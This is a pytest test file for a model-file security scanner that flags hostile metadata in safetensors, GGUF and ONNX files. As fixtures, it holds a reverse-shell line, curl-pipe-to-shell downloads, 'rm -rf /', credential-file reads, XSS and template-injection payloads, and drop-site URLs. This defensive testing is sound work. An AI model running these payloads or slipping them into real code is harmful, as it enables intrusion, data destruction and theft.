from __future__ import annotations

import base64
import json

import pytest

from tests.formats.samples import read
from tests.formats.test_gguf import built, pair, text
from tests.formats.test_onnx import model
from tests.rules.threats import found, level
from weighbridge.rules.security.addresses import suspicion


def safetensors(**metadata: str) -> bytes:
    header = json.dumps({"__metadata__": metadata}).encode()
    return len(header).to_bytes(8, "little") + header


def packed(words: bytes) -> str:
    return base64.b64encode(words).decode()


HARMLESS = {
    "format": "pt",
    "description": "Call model.eval() and evaluate(x); then os.path.join is enough. Costs < 5 %.",
    "install": "pip install torch && python train.py --config a.yaml",
    "usage": "from transformers import pipeline; pipe = pipeline('text-generation')",
    "clean": "rm old.txt, then rm -i other.txt; the warm -rf flag is another program's",
    "paper": "https://arxiv.org/abs/1706.03762, https://doi.org/10.1000/182",
    "home": "https://huggingface.co/org/model/resolve/main/model.py and http://www.w3.org/2000/svg",
    "download_url": "https://models.example.edu/a.bin",
    "fetch": "wget https://huggingface.co/org/model/resolve/main/model.safetensors",
    "endpoint": "http://localhost:8000/v1",
    "server": "http://10.0.0.7:8080/predict http://triton:8000/v2 http://a.b.svc.cluster.local/",
    "callback_url": "https://example.com/hook",
    "ss_network_args": '{"conv_dim": 4, "algo": "lora"}',
    "ss_training_comment": "tags: 1girl, (masterpiece:1.2), <lora:x:0.8>; eval set 5%",
    "ss_tag_frequency": '{"10_a": {"a cat -> b": 3, "import bag": 1, "script": 2}}',
    "ss_dataset_dirs": '{"10_cat": {"n_repeats": 10, "img_count": 20}}',
    "ss_optimizer": "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1)",
    "modelspec.thumbnail": "data:image/png;base64,"
    + packed(b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
    "modelspec.hash_sha256": "0x" + "ab" * 32,
    "sha": "d41d8cd98f00b204e9800998ecf8427e" * 4,
    "code": "def f(x):\n    return compile_model(x)\nimport os\nimport numpy as np",
    "html": "<p>A <b>model</b> card, see <a href='https://github.com/a/b'>b</a></p>",
    "note": packed(b"only words, and nothing that anybody would run at all"),
    "sudo": "sudo is not needed; curl up with a book and watch the nc tests",
}

COMMANDS = {
    "rm -rf / ": "a shell command",
    "x && rm -r -f ~/data": "a shell command",
    "curl -s http://a.b/x | sh": "a shell command",
    "wget -q http://a.b/x.bin": "a download command",
    "chmod +x /tmp/a": "a shell command",
    "bash -i >& /dev/tcp/1.2.3.4/9 0>&1": "a shell command",
    "nc -l -e /bin/sh": "a shell command",
    "powershell -nop -w hidden": "a shell command",
    "cat /etc/passwd": "a shell command",
    "import os; print()": "Python code",
    "os.system('id')": "Python code",
    "subprocess.Popen(x)": "Python code",
    "__import__('os')": "Python code",
    "exec(open('a').read())": "Python code",
    "pickle.loads(x)": "Python code",
    "<script>alert(1)</script>": "a script",
    "<img src=x onerror=alert(1)>": "a script",
    "<a href='javascript:alert(1)'>": "a script",
    packed(b"import os; os.system('touch /tmp/x')"): "Python code in base64",
    packed(b"\x80\x04\x95\x0a\x00\x00\x00\x00\x00\x00\x00\x8c\x02os."): "a pickle in base64",
    packed(b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00"): "a program in base64",
    "".join(f"\\x{byte:02x}" for byte in b"os.system('id')"): "Python code in escapes",
}

SUSPICIOUS = {
    ("http://198.51.100.7/a", "home"): "an address of numbers",
    ("https://0x7f000001/a", "home"): "an address of numbers",
    ("https://user:word@[2001:db8::1]/a", "home"): "an address of numbers",
    ("https://xn--80ak6aa92e.com/", "home"): "an address whose letters only look familiar",
    ("https://hugg\u0456ngface.co/", "home"): "an address whose letters only look familiar",
    ("https://pastebin.com/raw/a", "home"): "the address of a drop site",
    ("https://a.ngrok.io/", "home"): "the address of a drop site",
    ("https://discord.com/api/webhooks/1/a", "home"): "the address of a drop site",
    ("http://abc.onion/", "home"): "the address of a drop site",
    ("ldap://a.b/x", "home"): "an address that makes programs load code",
    ("https://a.b.com/x.sh", "home"): "the address of a program",
    ("https://a.b.com/x.exe?y=1", "home"): "the address of a program",
    ("https://a.b.com/exfiltrate", "home"): "an address that speaks of an attack",
    ("https://a.b.com/x", "callbackUrl"): "an address to send something to",
    ("http://a.b.com/x", "api_endpoint"): "an address that is called without encryption",
}


@pytest.mark.parametrize(("key", "words"), HARMLESS.items())
def test_what_people_write_into_metadata_is_quiet(key: str, words: str) -> None:
    assert found("SEC009", safetensors(**{key: words})) == ()
    assert found("SEC009", json.dumps({"metadata": {key: words}}).encode()) == ()


@pytest.mark.parametrize(("words", "what"), COMMANDS.items())
def test_a_command_in_metadata_needs_review(words: str, what: str) -> None:
    findings = found("SEC009", safetensors(note=f"hello {words}"))
    assert any(finding.message.endswith(f"holds {what}") for finding in findings)
    assert all(f.threat is not None and f.threat.level == "needs-review" for f in findings)


@pytest.mark.parametrize(("address", "what"), SUSPICIOUS.items())
def test_an_address_no_publisher_writes_needs_review(address: tuple[str, str], what: str) -> None:
    assert what in suspicion(*address)
    where, key = address
    assert level("SEC009", json.dumps({key: f"see {where}"}).encode()) == "needs-review"


def test_what_is_no_address_is_not_suspicious() -> None:
    assert suspicion("no address", "home") == ""


def test_metadata_of_gguf_is_judged_and_its_template_read_to_the_end() -> None:
    filler = b"{# " + b"x" * 10_000 + b" #}"
    data = built([pair(b"tokenizer.chat_template", 8, text(filler + b"{{ x.__globals__ }}"))], [])
    assert level("SEC004", data) == "malicious"
    facts = dict(read(data).metadata)
    assert len(facts["tokenizer.chat_template"]) == 4_096
    assert facts["tokenizer.chat_template:bytes"] == str(len(filler) + 19)
    named = built([pair(b"tokenizer.chat_template.tool_use", 8, text(b"{{ x.__globals__ }}"))], [])
    assert level("SEC004", named) == "malicious"
    assert level("SEC009", built([pair(b"own.note", 8, text(b"rm -rf /"))], [])) == "needs-review"
    assert (
        level("SEC009", built([pair(b"general.url", 8, text(b"https://hf.co/a"))], [])) == "clean"
    )


def test_a_template_that_is_too_long_to_judge_is_not_clean() -> None:
    long = "{{ x }}" + "a" * (1 << 20)
    for data in (
        built([pair(b"tokenizer.chat_template", 8, text(long.encode()))], []),
        json.dumps({"chat_template": long}).encode(),
        json.dumps({"chat_template": "{{ a }}" * 20_000}).encode(),
        json.dumps({"chat_template": "{{ " + "(" * 5_000}).encode(),
        json.dumps({"chat_template": ["{{ x }}"] * 65}).encode(),
        ("{% for m in messages %}{% endfor %}" + long).encode(),
        ("x\n_target_: os.system\n" + long.replace("{", "(")).encode(),
    ):
        assert read(data).status == "incomplete"
    assert read(("{{ title }}" + "a" * (1 << 20)).encode()).status == "complete"
    assert (
        read(json.dumps({"chat_template": "{# " + "a" * 900_000 + " #}"}).encode()).status
        == "complete"
    )


def test_lists_are_data_unless_they_are_short_and_stand_outermost() -> None:
    command = ["sh", "curl http://a.b/x | sh"]
    assert level("SEC009", json.dumps({"command": command}).encode()) == "needs-review"
    assert level("SEC009", json.dumps({"rows": [{"text": command[1]}]}).encode()) == "clean"
    assert level("SEC009", json.dumps({"vocabulary": command * 51}).encode()) == "clean"
    assert level("SEC009", json.dumps([{"text": command[1]}]).encode()) == "clean"


def test_addresses_that_differ_little_are_noted_once_and_too_many_are_not_lost() -> None:
    alike = {"url": " ".join(f"https://a.b.org/{number}.bin" for number in range(9))}
    assert len(read(json.dumps(alike).encode()).code) == 1
    many = {"url": " ".join(f"https://a{number}.org/" for number in range(501))}
    structure = read(json.dumps(many).encode())
    assert (structure.status, len(structure.code)) == ("incomplete", 500)


def test_texts_without_end_are_not_judged_to_their_end() -> None:
    large = {f"k{number}": "a-" * (400 << 10) for number in range(12)}
    assert read(json.dumps(large).encode()).status == "incomplete"
    assert read(safetensors(**large)).reason.startswith("its texts have more than")


def test_a_description_of_an_onnx_model_is_judged() -> None:
    document = model()
    assert level("SEC009", document.SerializeToString()) == "clean"
    document.doc_string = "see http://198.51.100.7/"
    assert level("SEC009", document.SerializeToString()) == "needs-review"
    document.doc_string = ""
    document.metadata_props.add(key="hook", value="os.system('id')")
    assert level("SEC009", document.SerializeToString()) == "needs-review"
    document.metadata_props.add(key="chat_template", value="{{ x }}")
    assert read(document.SerializeToString()).status == "incomplete"
